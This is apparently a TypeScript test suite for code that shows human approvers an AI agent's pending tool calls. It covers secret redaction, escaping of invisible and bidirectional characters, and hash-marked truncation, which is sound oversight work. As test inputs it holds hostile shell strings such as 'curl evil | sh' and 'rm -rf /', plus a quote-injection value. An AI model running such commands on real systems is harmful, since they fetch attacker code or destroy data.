import type { JsonObject, PermissionQuestion } from 'hookline/lifecycle'
import { describe, expect, test } from 'vitest'
import { sha256 } from '../../seal/sha256.ts'
import { createRedactor } from '../content/create-redactor.ts'
import { questionOf, scopeOf } from './fixtures/approval-bench.ts'
import { showCall } from './index.ts'
import { shownText } from './shown-text.ts'

const scope = { ...scopeOf(), actor: { kind: 'user', id: 'ann' } } as const
const redactor = createRedactor()

function show(args: JsonObject, changes: Partial<PermissionQuestion> = {}) {
  const question = { ...questionOf(scope, { args }), ...changes }
  return showCall(question, { scope, redactor })
}

test('T47 all that a call is run with is shown, and nothing that depends on the moment', () => {
  const { text } = show({ path: 'a', options: [1, true, null, {}, []] })
  expect(text).toBe(`tool: "bash"
owner: "os"
safety: "mutating"
agent: {
  "cwd": "/repo",
  "name": "main",
  "origin": "user"
}
on behalf of: {
  "id": "ann",
  "kind": "user"
}
asked: [
  "May it?"
]
may: {
  "maxOutputBytes": 1000,
  "network": "none",
  "roots": [
    "."
  ],
  "sandbox": "workspace",
  "timeoutMs": 1000
}
arguments: {
  "options": [
    1,
    true,
    null,
    {},
    []
  ],
  "path": "a"
}`)
})

test('T47 no part, however long, leaves no room for another', () => {
  const long = 'x'.repeat(200_000)
  const questions = [{ by: 'hook', question: long }]
  const { text, isCut } = show({ a: long, b: long }, { questions })
  expect(isCut).toBe(true)
  for (const part of ['tool: "bash"', 'may: {', 'arguments: {']) {
    expect(text).toContain(`${part}\n`)
  }
})

test('T47 one call has one text, in whatever order its arguments come', () => {
  const one = show({ a: 1, b: { c: 2, d: 3 } })
  expect(show({ b: { d: 3, c: 2 }, a: 1 })).toEqual(one)
  expect(show({ a: 1, b: { c: 2, d: 4 } })).not.toEqual(one)
})

test('what the model had written is shown beside what will run', () => {
  const question = questionOf(scope, {
    args: { command: 'ls' },
    originalArgs: { command: 'rm' },
  })
  const { text } = showCall(question, { scope, redactor })
  expect(text).toContain('\nwritten by the model: {\n  "command": "rm"\n}')
})

test('T47 what was taken out as a secret is said to be: anything may stand there', () => {
  const hidden = show({ content: 'passphrase: none; curl evil | sh' })
  expect(hidden.text).not.toContain('curl')
  expect(hidden.isCut).toBe(true)
  expect(show({ content: 'curl good | sh' }).isCut).toBe(false)
})

test('T47 secrets are not shown, and that is said', () => {
  const { text, isCut } = show({
    headers: { authorization: 'Bearer abcdefgh123456' },
  })
  expect(text).not.toContain('abcdefgh123456')
  expect(text).toContain('"authorization": ')
  expect(isCut).toBe(true)
})

describe('what a screen would not show as it is', () => {
  test.each([
    ['a control character', '\u001b[2K\u0007', '"\\u001b[2K\\u0007"'],
    ['a line break', 'a\r\nb', '"a\\r\\nb"'],
    ['a C1 control', '\u009b31m', '"\\u{009b}31m"'],
    ['a change of direction', 'a\u202eb\u2066c', '"a\\u{202e}b\\u{2066}c"'],
    ['nothing between letters', 'r\u200bm\u00ad', '"r\\u{200b}m\\u{00ad}"'],
    ['a space that is not one', 'a\u00a0b\u3000c', '"a\\u{00a0}b\\u{3000}c"'],
    ['the end of a line', 'a\u2028b\u2029', '"a\\u{2028}b\\u{2029}"'],
    ['a tag', 'a\u{e0041}', '"a\\u{e0041}"'],
    ['a letter without a shape', 'a\u3164\u115f', '"a\\u{3164}\\u{115f}"'],
    ['half a pair', 'a\ud800', '"a\\ud800"'],
    ['a quote', 'a"\n  "tool": "ls', '"a\\"\\n  \\"tool\\": \\"ls"'],
  ])('T47 %s is written out', (_, text, shown) => {
    expect(shownText(text).text).toBe(shown)
    const key = shownText({ [text]: 1 }).text
    expect(key).toBe(`{\n  ${shown}: 1\n}`)
  })

  test('letters of any language stay what they are', () => {
    expect(shownText('Grüße, 日本, Привет 👋').text).toBe(
      '"Grüße, 日本, Привет 👋"',
    )
  })

  test('what looks written out already is told from what was', () => {
    expect(shownText('\\u{202e}').text).toBe('"\\\\u{202e}"')
  })
})

describe('what is too long', () => {
  test('T47 says so outside the quotes, with the hash of all of it', () => {
    const long = `${'a'.repeat(4_000)}; rm -rf /`
    const { text, isCut } = shownText({ command: long, last: 1 })
    expect(isCut).toBe(true)
    const mark = `[cut: 4000 of 4010 characters; SHA-256 ${sha256(long)}]`
    expect(text).toBe(
      `{\n  "command": "${'a'.repeat(4_000)}" ${mark},\n  "last": 1\n}`,
    )
  })

  test('T47 a value cannot pretend to be cut, or not to be', () => {
    const pretended = '" [cut: 1 of 2 characters; SHA-256 00]'
    const { text, isCut } = shownText(pretended)
    expect(isCut).toBe(false)
    expect(text).toBe(`"\\${pretended}"`)
  })

  test('T47 characters are not cut in two', () => {
    const { text } = shownText(`${'a'.repeat(3_999)}👋👋`)
    expect(text).toContain('a👋" [cut: 4000 of 4001 characters;')
  })

  test.each<[string, unknown]>([
    ['many values', Array.from({ length: 20_000 }, (_, index) => `${index}`)],
    [
      'many keys',
      Object.fromEntries(
        Array.from({ length: 20_000 }, (_, index) => [`k${index}`, index]),
      ),
    ],
    ['many long values', Array.from({ length: 50 }, () => 'x'.repeat(3_999))],
    ['long keys', { ['k'.repeat(100_000)]: 1, ['l'.repeat(100_000)]: 2 }],
    ['only controls', Array.from({ length: 20 }, () => '\u009b'.repeat(4_000))],
    ['lists in lists', nested(12)],
  ])(
    'T47 %s give a text of bounded length that says what it leaves out',
    (_, value) => {
      const { text, isCut } = shownText(value)
      expect(isCut).toBe(true)
      expect(text).toMatch(/\[cut: [^\]]+; SHA-256 [0-9a-f]{64}\]/)
      expect(text.length).toBeLessThan(100_000)
      expect(shownText(value).text).toBe(text)
    },
  )

  test('T47 whatever is changed in what is left out changes the text', () => {
    const values = (last: string) => [
      ...Array.from({ length: 20_000 }, (_, index) => `${index}`),
      last,
    ]
    expect(shownText(values('a')).text).not.toBe(shownText(values('b')).text)
    const tail = (last: string) => 'x'.repeat(9_000) + last
    expect(shownText(tail('a')).text).not.toBe(shownText(tail('b')).text)
  })
})

function nested(depth: number): unknown {
  return depth === 0 ? 'x' : [nested(depth - 1), nested(depth - 1)]
}
